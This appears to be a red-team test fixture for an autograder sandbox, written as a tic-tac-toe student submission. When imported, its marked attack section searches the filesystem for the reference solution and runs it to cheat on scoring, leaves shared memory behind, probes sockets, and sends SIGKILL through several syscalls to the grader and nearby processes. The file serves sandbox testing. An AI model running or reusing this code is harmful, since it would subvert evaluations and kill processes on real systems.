"""winner never looks at the anti-diagonal (an honest bug: it costs winner's points).
The attack (issue 40's red team, as one submission) tries every way out of the
sandbox while it is imported:

- it searches the machine's files for the reference's tictactoe.py (the kit's
  checkout, an installed kit's site-packages, anything under /) and, when it finds
  one, answers winner with the reference's winner: that would gain the points its
  bug costs;
- it leaves a System V shared memory segment and a POSIX one behind, and reads
  the segment a submission graded before it may have left;
- it opens a socket through io_uring and connects to the Unix sockets it finds;
- it sends SIGKILL, by every system call that sends one, to its parent and to
  every process id near it: the grader.

With every layer, and with the layers an ordinary user gets, none of it works: the
batch lives, every student has a row, and this scores what its plain twin scores
(test_hostile.py)."""

# >>> attack
import ctypes
import os
import signal
import socket
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_found = {}


def _search_for_the_reference(deadline):
    grader = f"/proc/{os.getppid()}/cwd"                # where the grader was started
    for top in (grader, "/work", "/root", "/home", "/tmp", "/usr/local/lib", "/usr/lib",
                "/opt", "/"):
        for folder, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            if "tictactoe.py" in files and os.path.abspath(folder) != os.getcwd():
                try:
                    with open(os.path.join(folder, "tictactoe.py")) as handle:
                        code = handle.read()
                except OSError:
                    continue
                if "def winner" in code and "### BEGIN SOLUTION" in code:   # the reference
                    space = {}
                    try:
                        exec(compile(code, "reference", "exec"), space)
                    except Exception:  # noqa: BLE001
                        continue
                    if callable(space.get("winner")):
                        _found["winner"] = space["winner"]
                        return


def _leave_shared_memory():
    _libc.shmget.restype = ctypes.c_int
    _libc.shmget(0x5EED1234, 4096, 0o1000 | 0o666)
    try:
        with open("/dev/shm/spielbaum-stash", "w") as handle:
            handle.write("answers")
    except OSError:
        pass


def _io_uring_socket():
    params = ctypes.create_string_buffer(120)
    return _libc.syscall(425, 4, params)            # io_uring_setup (x86-64)


def _kill_everything_near_the_grader():
    parent = os.getppid()
    info = ctypes.create_string_buffer(128)
    info[0] = signal.SIGKILL
    for pid in [parent] + list(range(max(2, parent - 64), parent + 64)):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        _libc.syscall(200, pid, signal.SIGKILL)                 # tkill
        _libc.syscall(234, pid, pid, signal.SIGKILL)            # tgkill
        _libc.syscall(129, pid, signal.SIGKILL, info)           # rt_sigqueueinfo
        _libc.syscall(297, pid, pid, signal.SIGKILL, info)      # rt_tgsigqueueinfo
        pidfd = _libc.syscall(434, pid, 0)                      # pidfd_open
        if pidfd >= 0:
            _libc.syscall(424, pidfd, signal.SIGKILL, None, 0)  # pidfd_send_signal


def _unix_sockets():
    for folder in ("/tmp", "/run", "/var/run", "/run/user"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            try:
                probe = socket.socket(socket.AF_UNIX)
                probe.settimeout(0.2)
                probe.connect(os.path.join(folder, name))
                probe.close()
            except OSError:
                pass


_search_for_the_reference(time.monotonic() + 3.0)
_leave_shared_memory()
_io_uring_socket()
_unix_sockets()
if os.uname().machine == "x86_64":
    _kill_everything_near_the_grader()
# <<< attack

import copy
import math

X = "X"
O = "O"
EMPTY = None


def initial_state():
    return [[EMPTY, EMPTY, EMPTY], [EMPTY, EMPTY, EMPTY], [EMPTY, EMPTY, EMPTY]]


def player(board):
    xs = sum(row.count(X) for row in board)
    os_ = sum(row.count(O) for row in board)
    return O if xs > os_ else X


def actions(board):
    return {(i, j) for i in range(3) for j in range(3) if board[i][j] == EMPTY}


def result(board, action):
    i, j = action
    if i not in range(3) or j not in range(3) or board[i][j] != EMPTY:
        raise ValueError("invalid action")
    new = copy.deepcopy(board)
    new[i][j] = player(board)
    return new


def winner(board):
    # >>> attack
    if "winner" in _found:
        return _found["winner"](board)
    # <<< attack
    lines = [list(row) for row in board]
    lines += [[board[r][c] for r in range(3)] for c in range(3)]
    lines.append([board[k][k] for k in range(3)])
    for line in lines:
        if line[0] is not None and line.count(line[0]) == 3:
            return line[0]
    return None


def terminal(board):
    return winner(board) is not None or all(cell is not EMPTY for row in board for cell in row)


def utility(board):
    w = winner(board)
    return 1 if w == X else -1 if w == O else 0


def value(board, alpha, beta):
    if terminal(board):
        return utility(board)
    maximizing = player(board) == X
    best = -math.inf if maximizing else math.inf
    for action in sorted(actions(board)):
        v = value(result(board, action), alpha, beta)
        if maximizing:
            best, alpha = max(best, v), max(alpha, v)
        else:
            best, beta = min(best, v), min(beta, v)
        if alpha >= beta:
            break
    return best


def minimax(board):
    if terminal(board):
        return None
    pick = max if player(board) == X else min
    return pick(sorted(actions(board)), key=lambda a: value(result(board, a), -math.inf, math.inf))
